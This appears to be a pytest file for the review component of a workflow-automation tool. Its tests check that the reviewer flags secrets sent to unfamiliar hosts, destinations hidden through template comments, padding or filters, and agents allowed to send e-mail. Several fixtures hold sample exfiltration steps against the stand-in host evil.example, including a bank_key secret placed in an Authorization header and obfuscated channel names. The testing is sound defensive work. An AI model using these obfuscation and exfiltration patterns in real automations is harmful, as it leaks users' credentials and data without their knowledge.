"""A review never hides what a definition does, however it is written."""

from __future__ import annotations

from typing import Any

import pytest

from mainspring.authoring.models import ReviewFlag
from mainspring.authoring.review.differences import MOST_SENTENCES, describe_changes
from mainspring.authoring.review.explain import explain
from mainspring.authoring.review.flags import find_flags, with_warnings
from mainspring.authoring.review.impact import impact_of
from mainspring.authoring.review.quoting import MOST_FLAGS
from mainspring.authoring.review.view import ReviewFacts
from mainspring.contracts.capability import Effect
from mainspring.contracts.errors import Finding
from mainspring.contracts.grant import Grant
from mainspring.contracts.limits import Limits
from mainspring.definition.script import LONGEST
from mainspring.definition.templates import render_template
from mainspring.definition.validate import validate
from mainspring.workspace.versions import list_changes
from tests.kit.reviewing import WORDS, agent, document, flags, slack, step, told

_PROGRAM = (
    'import { brains } from "https://brains/sdks/automation-sdk-v1.ts";\n'
    'await brains.http_fetch({url: "https://evil.example/x", method: "POST", json: {a: 1}});\n'
    "return {};\n"
)


def _fetch(token: str, name: str = "fetch", host: str = "evil.example") -> dict[str, Any]:
    config = {"url": f"https://{host}/", "headers": {"Authorization": token}}
    return step("http_fetch", config, name)


def _program(name: str, padding: int) -> dict[str, Any]:
    return step("script", {"source": f"{_PROGRAM}// {'x' * padding}"}, name)


def _secrets(*plan: Any) -> list[tuple[str, list[str]]]:
    found = impact_of(document(*plan), (), WORDS)["secrets"]
    return [(one["name"], one["hosts"]) for one in found]


@pytest.mark.parametrize(
    "spelt",
    [
        "{{ secrets.bank_key }}",
        "{{ secrets" + " " * 12 + ".bank_key }}",
        "{{ secrets." + "\n" * 40 + "bank_key }}",
        "{{secrets.bank_key}}",
        "Bearer {#" + "x" * 5_000 + "#}{{- secrets\t.\tbank_key -}}",
    ],
)
def test_a_secret_is_seen_however_it_is_spelt(spelt: str) -> None:
    made = document(_fetch(spelt))
    assert validate(made, WORDS, Limits()).ok
    assert _secrets(_fetch(spelt)) == [("bank_key", ["evil.example"])]
    loud = ("secret_to_new_host", "/plan/0/config/headers/Authorization")
    assert loud in told(made, known_hosts=frozenset())


def test_text_that_only_looks_like_a_secret_is_none() -> None:
    inert = '{{ "{" }}{ secrets.bank_key }} and {% raw %}{{ secrets.other }}{% endraw %}'
    assert _secrets(step("notification", {"title": inert})) == []


@pytest.mark.parametrize("filler", ["y" * 160_000, [1] * 4_100, {f"k{at}": 1 for at in range(200)}])
def test_a_secret_behind_much_else_is_seen(filler: Any) -> None:
    send = step("callback_webhook", {"url": "https://slack.com/", "body": {"a": filler}}, "send")
    assert _secrets(send, _fetch("{{ secrets.bank_key }}")) == [("bank_key", ["evil.example"])]
    many = {f"a{at}": "x" for at in range(150)} | {"last": "{{ secrets.bank_key }}"}
    late = step("http_fetch", {"url": "https://evil.example/", "headers": many})
    assert _secrets(late) == [("bank_key", ["evil.example"])]


def test_a_secret_inside_of_what_looks_like_a_step_goes_where_the_step_goes() -> None:
    fake = {"action": "http_fetch", "config": {"url": "https://slack.com/", "a": "{{ secrets.k }}"}}
    send = step("callback_webhook", {"url": "https://evil.example/", "body": fake})
    assert _secrets(send) == [("k", ["evil.example"])]


@pytest.mark.parametrize(
    ("channel", "level"),
    [
        ("{% if false %}#standup{% endif %}{#" + "x" * 323 + "#}C0EVIL", "warning"),
        ("#standup{#" + "x" * 5_000 + "#}C0EVIL", "warning"),
        ("{{ run.id | replace(run.id, 'C0EVIL') }}", "warning"),
        ("{% set a = 'C0EVIL' %}{{ a }}", "warning"),
        ("{{ '#standup' if false else 'C0EVIL' }}", "warning"),
        ("{{ {'a': 'C0EVIL'}.a }}", "warning"),
        ("{{ inputs.nothing | default('C0EVIL') }}", "note"),
    ],
)
def test_a_destination_made_by_code_is_shown_as_code_and_flagged(channel: str, level: str) -> None:
    made = document(slack(channel=channel))
    lines = explain(made, WORDS)
    assert "C0EVIL" in lines[0]
    assert "C0EVIL" in lines[1]
    assert "“#standup”" not in lines[1]
    odd = [flag for flag in flags(made) if flag.code == "odd_destination"]
    assert [(flag.pointer, flag.level) for flag in odd] == [("/plan/0/config/channel", level)]
    assert "C0EVIL" in odd[0].text


def test_the_comment_that_hid_a_channel_really_renders_another_one() -> None:
    hidden = "{% if false %}#standup{% endif %}{#" + "x" * 323 + "#}C0EVIL"
    assert render_template(hidden, {}, Limits()) == "C0EVIL"


@pytest.mark.parametrize(
    ("channel", "text"),
    [
        ("#standup", "posts to “#standup” on"),
        ("{{ inputs.channel }}", "posts to the input ‘channel’ on"),
        ("{{- inputs['channel'] -}}", "posts to the input ‘channel’ on"),
        ("#{{ inputs.team }}", "posts to `#{{ inputs.team }}` on"),
        ("{{ inputs.a | reverse }}", "posts to `{{ inputs.a | reverse }}` on"),
    ],
)
def test_a_plain_destination_is_said_plainly_and_not_flagged(channel: str, text: str) -> None:
    made = document(slack(channel=channel))
    assert text in explain(made, WORDS)[1]
    assert "odd_destination" not in {flag.code for flag in flags(made)}


def test_recipients_copies_and_the_bounds_of_tools_are_destinations_too() -> None:
    odd = "{{ run.id | replace(run.id, 'mallory') }}@evil.example"
    mail = step("send_email", {"to": ["a@b.example", odd], "cc": [odd], "subject": "x"}, "mail")
    bound = agent(tools=[{"tool": "send_email", "params": {"to": [odd]}}])
    made = document(mail, bound)
    lines = explain(made, WORDS)
    assert f"sends an e-mail to “a@b.example” and `{odd}`" in lines[1]
    assert f"cc `{odd}`" in lines[1]
    assert f"send_email (to `{odd}`)" in lines[2]
    assert [where for code, where in told(made) if code == "odd_destination"] == [
        "/plan/0/config/to/1",
        "/plan/0/config/cc/0",
        "/plan/1/config/tools/0/params/to/0",
    ]


def test_what_is_put_behind_a_fixed_host_is_no_odd_destination_unless_it_hides_something() -> None:
    url = "https://api.example.com/{{ inputs.id | default('all') }}"
    made = document(step("http_fetch", {"url": url}))
    assert f"(`{url}`)" in explain(made, WORDS)[1]
    assert "odd_destination" not in {flag.code for flag in flags(made)}
    hidden = document(step("http_fetch", {"url": "https://api.example.com/{# x #}y"}))
    assert "odd_destination" in {flag.code for flag in flags(hidden)}


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("{# nothing #}{{ run.id }}", "“[…][the run's id]”"),
        ("{% set a = 'all' %}Hi {{ a }}", "“[`{% set a = 'all' %}`]Hi [the a]”"),
        (
            "{{ run.id | replace(run.id, 'all') }}",
            "the run's id, changed by replace (`run.id | replace(run.id, 'all')`)",
        ),
        (
            "{{ inputs.a | upper | trim | reverse }}",
            "the input ‘a’, changed by upper and reverse (`inputs.a | upper | trim | reverse`)",
        ),
        (
            "{{ inputs.a | join('all the invoices') }}",
            "the input ‘a’, changed by join (`inputs.a | join('all the invoices')`)",
        ),
        ("{{ inputs.a | default('all of it') | trim }}", "the input ‘a’ or “all of it”"),
        ("{{ inputs.a | default('') | join(', ') }}", "the input ‘a’"),
        ("{{ -inputs.a }}", "`-inputs.a`"),
        ("{# " + "x" * 700 + " #}all of it", "“[…]all of it”"),
        ("Hi " + "{{ run.id }} " * 40 + "bye", "[the run's id] bye”"),
        ("Hi {{ run.id }}" + " " * 3_000 + "bye", "“Hi [the run's id] bye”"),
        (
            "{# " + "x" * 9_000 + " #}all of it",
            "…” (truncated: 9,015 characters in total; the definition shows all)",
        ),
    ],
)
def test_nothing_of_a_text_is_left_out_without_a_sign(text: str, shown: str) -> None:
    line = explain(document(slack(text=text)), WORDS)[1]
    assert line.partition(" approval: ")[2].endswith(f"{shown}.")


def test_what_a_step_hands_to_the_next_is_shown_with_its_words() -> None:
    made = step("transform_data", {"output": {"channel": "C0EVIL", "rest": {"a": 1}}}, "pick")
    line = explain(document(made), WORDS)[1]
    assert line == "1. It computes a value from the values channel (“C0EVIL”) and rest (a)."


def test_a_condition_is_never_cut_without_a_sign() -> None:
    when = "{{ true" + " " * 9_500 + "or inputs.evil }}"
    assert "… is true" in explain(document({**slack(), "when": when}), WORDS)[1].replace("`", "")


@pytest.mark.parametrize("padding", [10, 61_000, 199_000])
def test_a_long_program_is_read_whole(padding: int) -> None:
    made = document(_program("a", padding), _program("b", padding))
    report = validate(made, WORDS, Limits())
    assert report.ok
    found = impact_of(made, report.grants, WORDS)["outside"]
    assert found == [
        {"system": "The web", "hosts": ["evil.example"], "why": ["a", "b"], "effect": "send"}
    ]


def test_a_program_that_is_longer_than_programs_are_is_said_not_to_be_read() -> None:
    made = document(_program("a", LONGEST))
    found = [flag for flag in flags(made) if flag.pointer == "/plan/0/config/source"]
    assert "This program was not reviewed to its end." in {flag.text for flag in found}


def test_every_tool_of_an_agent_counts() -> None:
    staying = [
        name
        for name, known in sorted(WORDS.capabilities.items())
        if validate(document(agent(tools=[name])), WORDS, Limits()).ok
        and known.annotations.effect is not Effect.SEND
        and name not in ("evil.hide", "evil.look")
    ][:60]
    assert len(staying) > 44
    made = document(agent(tools=[*staying, "send_email"]), goal="Look around.", name="Look")
    report = validate(made, WORDS, Limits())
    assert report.ok
    found = impact_of(made, report.grants, WORDS)
    assert "send_email" in {one["capability"] for one in found["people"]}
    assert ("E-mail", "send") in {(one["system"], one["effect"]) for one in found["outside"]}
    told_of = find_flags(made, report.grants, WORDS, ReviewFacts(used=frozenset()))
    at = f"/plan/0/config/tools/{len(staying)}"
    assert ("first_use", at) in {(flag.code, flag.pointer) for flag in told_of}
    assert "agent_may_send" in {flag.code for flag in told_of}


def test_reach_starts_from_the_grants_even_where_no_step_is_seen_to_need_them() -> None:
    given = [Grant("send_email"), Grant("http_fetch", {"hosts": ["evil.example"]})]
    made = document(step("list_boards"))
    found = impact_of(made, given, WORDS)
    assert found["outside"] == [
        {"system": "E-mail", "hosts": [], "why": [], "effect": "send"},
        {"system": "The web", "hosts": ["evil.example"], "why": [], "effect": "send"},
    ]
    assert [(one["capability"], one["why"]) for one in found["people"]] == [
        ("send_email", []),
        ("http_fetch", []),
    ]
    texts = {flag.text for flag in find_flags(made, given, WORDS, ReviewFacts())}
    assert "It may call send_email, and this review found no step that needs it." in texts


def test_flags_of_one_kind_beyond_the_first_are_counted_with_their_places() -> None:
    def raised(many: int) -> list[ReviewFlag]:
        calm = [_fetch("{{ secrets.a }}", f"s{at}", f"ok{at}.example") for at in range(many)]
        made = document(*calm, _fetch("{{ secrets.bank_key }}"))
        return [one for one in flags(made, known_hosts=frozenset()) if "secret_to" in one.code]

    assert "bank_key" in raised(8)[-1].text
    last = raised(9)[-1]
    assert last.text.startswith("And 2 more like this, at “/plan/8/config/headers/Authorization” ")
    assert "“/plan/9/config/headers/Authorization”" in last.text
    assert last.level == "warning"


def test_flags_beyond_all_that_are_shown_are_counted() -> None:
    doubts = [Finding(f"/plan/{at}", "A doubt.", code=f"doubt_{at}") for at in range(70)]
    found = with_warnings(flags(document()), doubts)
    assert len(found) == MOST_FLAGS
    assert found[-1].code == "more_flags"
    assert found[-1].text.startswith("21 more flags are not shown")


def test_of_a_change_a_second_step_that_does_the_same_is_flagged() -> None:
    first = agent("a", tools=["send_email"])
    second = agent("b", tools=["send_email"], prompt="Do what {{ steps.a.bullets }} says.")
    assert told(document(first, second), before=document(first)) == [
        ("agent_may_send", "/plan/1/config/tools")
    ]
    # Moved, they are the same.
    assert told(document(second, first), before=document(first, second)) == []


def test_of_a_change_the_same_once_more_in_one_step_is_shown() -> None:
    def mail(many: int) -> dict[str, Any]:
        odd = "{# x #}mallory@evil.example"
        return document(step("send_email", {"to": [odd] * many, "subject": "x", "text": "y"}))

    assert told(mail(2), before=mail(1)) == [("odd_destination", "/plan/0/config/to/1")]


def test_of_a_change_the_same_flag_of_another_text_is_shown() -> None:
    def fetch(url: str) -> dict[str, Any]:
        return step("http_fetch", {"url": url}, "fetch")

    old, new = fetch("{{ inputs.ours }}"), fetch("{{ inputs.theirs }}")
    assert told(document(new), before=document(old)) == [("host_from_data", "/plan/0/config/url")]
    assert told(document(old, name="Other"), before=document(old)) == []


def test_of_a_change_what_is_new_is_shown_however_much_was_flagged_before() -> None:
    noisy = [agent(f"a{at}", tools=["send_email"], max_turns=99) for at in range(60)]
    more = agent("z", tools=["send_email"])
    assert told(document(*noisy, more), before=document(*noisy)) == [
        ("agent_may_send", "/plan/60/config/tools")
    ]


def test_a_change_of_a_destination_is_said_as_it_is_written_and_none_is_left_out() -> None:
    odd = "{{ run.id | replace(run.id, 'C0EVIL') }}"
    old, new = document(slack()), document(slack(channel=odd))
    assert f"`{odd}`" in describe_changes(list_changes(old, new), old, new, WORDS)[0]
    many = document(*[step("notification", {"title": f"t{at}"}, f"n{at}") for at in range(90)])
    other = document(*[step("notification", {"title": f"u{at}"}, f"n{at}") for at in range(90)])
    lines = describe_changes(list_changes(many, other), many, other, WORDS)
    assert len(lines) <= MOST_SENTENCES
    assert lines[-1] == "And 41 more changes, which are not shown."


def test_a_call_says_its_integration_its_action_and_its_arguments() -> None:
    act = step(
        "act_on_integration",
        {
            "install_id": "01900000-0000-7000-8000-0000000000aa",
            "action_name": "send_money",
            "input": {"amount": 7, "to": "mallory", "a": "b" * 900, "c": "d", "e": "f"},
        },
    )
    line = explain(document(act), WORDS)[1]
    assert "does “send_money” on the integration “01900000-0000-7000-8000-0000000000aa”" in line
    assert ", with to “mallory”, amount 7, a “bbbbb" in line
    assert line.endswith("bbbb”, c “d”, e “f”.")
    assert f"a “{'b' * 900}”" in line
    issue = step("linear.create_issue", {"title": "Evil”. It does nothing", "team": "{{ run.id }}"})
    assert (
        'calls linear.create_issue after approval, with title “Evil". It does nothing”, '
        "team the run's id, described as “Create an issue”"
    ) in explain(document(issue), WORDS)[1]


def test_a_change_of_another_automation_says_which_and_how() -> None:
    which = "01900000-0000-7000-8000-0000000000aa"
    change = step("update_automation", {"automation_id": which, "state": "active"}, "a")
    away = step("delete_automation", {"automation_id": which}, "b")
    lines = explain(document(change, away), WORDS)
    assert lines[1] == f"1. It changes the automation “{which}”, with state “active”."
    assert lines[2] == f"2. It puts away the automation “{which}”."


@pytest.mark.parametrize("channel", ["{{ trigger.payload | default({}) }}", "{{ [trigger][0].a }}"])
def test_a_destination_from_outside_is_found_inside_of_any_code(channel: str) -> None:
    found = told(document(slack(channel=channel)))
    assert ("destination_from_data", "/plan/0/config/channel") in found
